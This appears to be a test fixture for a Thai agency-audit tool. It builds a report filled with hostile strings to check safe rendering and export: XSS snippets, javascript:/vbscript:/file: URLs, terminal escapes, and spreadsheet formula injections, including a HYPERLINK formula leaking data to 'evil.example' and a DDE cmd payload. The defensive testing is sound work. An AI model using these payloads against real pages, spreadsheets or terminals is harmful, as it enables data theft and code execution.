/**
 * A report whose every site-provided string is hostile (issue #6 §4): markup that would run if it
 * were rendered as HTML, URLs with schemes that must never become live links, spreadsheet formulas,
 * terminal escapes and very long strings. It is valid against `ReportSchema`: this is what a
 * hostile agency site can really put into a report.
 */
import type { ItemReport, Report } from '@/checks/report/schema';

export const SCRIPT = '<script>window.__pwned = 1; alert("xss")</script>';
export const IMG = '<img src=x onerror="window.__pwned = 2">';
export const JS_URL = 'javascript:window.__pwned=3';
export const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];
/** Clear screen, retitle the terminal, write the clipboard (OSC 52), bell. */
export const TERMINAL = '\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;cHduZWQ=\u0007\u009b31m';
/** Non-http(s) URLs, as found in real hrefs (case and spaces vary). */
export const BAD_URLS = [JS_URL, ' JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', '//evil.example/x'];

const long = (s: string, n: number) => s.repeat(Math.ceil(n / s.length)).slice(0, n);

function item(id: string, i: number, over: Partial<ItemReport> = {}): ItemReport {
  return {
    id,
    section: '9.1',
    title: `${SCRIPT} ${IMG} ${FORMULAS[i % FORMULAS.length]} ${TERMINAL}`.slice(0, 500),
    status: (['pass', 'partial', 'fail', 'review'] as const)[i % 4],
    evidence: [
      { url: BAD_URLS[i % BAD_URLS.length], kind: 'link', text: `${IMG} ${long('ยาว', 1500)}`, foundOn: BAD_URLS[(i + 1) % BAD_URLS.length] },
      { url: `https://agency.example/doc?x=${encodeURIComponent(SCRIPT)}`, kind: 'document', text: SCRIPT, foundOn: 'https://agency.example/' },
    ],
    missing: [FORMULAS[(i + 1) % FORMULAS.length], SCRIPT, TERMINAL],
    notes: [FORMULAS[(i + 2) % FORMULAS.length], IMG],
    titleEn: `${IMG} ${TERMINAL}`,
    missingEn: [SCRIPT],
    ...over,
  };
}

export function hostileReport(): Report {
  const items = Array.from({ length: 8 }, (_, i) => item(`O${i + 1}`, i));
  items[1].verdict = { status: 'pass', note: `${FORMULAS[0]} ${SCRIPT} ${TERMINAL}`, reviewer: `${IMG}=1+1`, at: '2026-11-27T03:00:00.000Z' };
  return {
    schema: 'oit-audit-report/1',
    tool: { name: 'oit-auditor', version: '0.1.0' },
    site: { startUrl: 'https://agency.example/', origin: 'https://agency.example', title: `${SCRIPT}${IMG}${TERMINAL}${long('อบต.', 900)}`.slice(0, 1000) },
    ruleset: { id: 'ita-2566', fiscalYear: 2566, title: 'ITA 2566', sections: [{ id: '9.1', title: `${SCRIPT}=1+1` }] },
    startedAt: '2026-11-26T10:00:00.000Z',
    finishedAt: '2026-11-26T10:00:09.000Z',
    crawl: {
      pagesFetched: 12,
      pagesFailed: 2,
      documentsFound: 3,
      stoppedBy: 'cancelled',
      errors: [
        { url: JS_URL, reason: `${SCRIPT} ${TERMINAL}`, code: 'http', foundOn: 'data:text/html,x' },
        { url: `https://agency.example/${long('a', 4000)}`, reason: `=1+1 ${IMG}` },
      ],
      skipped: { unsafe: 2 },
    },
    summary: { pass: 2, partial: 2, fail: 2, review: 2, score: 25 },
    survey: {
      eit: { status: 'review', url: JS_URL, via: 'link', foundOn: 'vbscript:x', notes: [SCRIPT] },
      iit: { status: 'pass', url: 'https://itas.nacc.go.th/go/iit/abc123', via: 'qr', foundOn: BAD_URLS[2] },
    },
    items,
  };
}
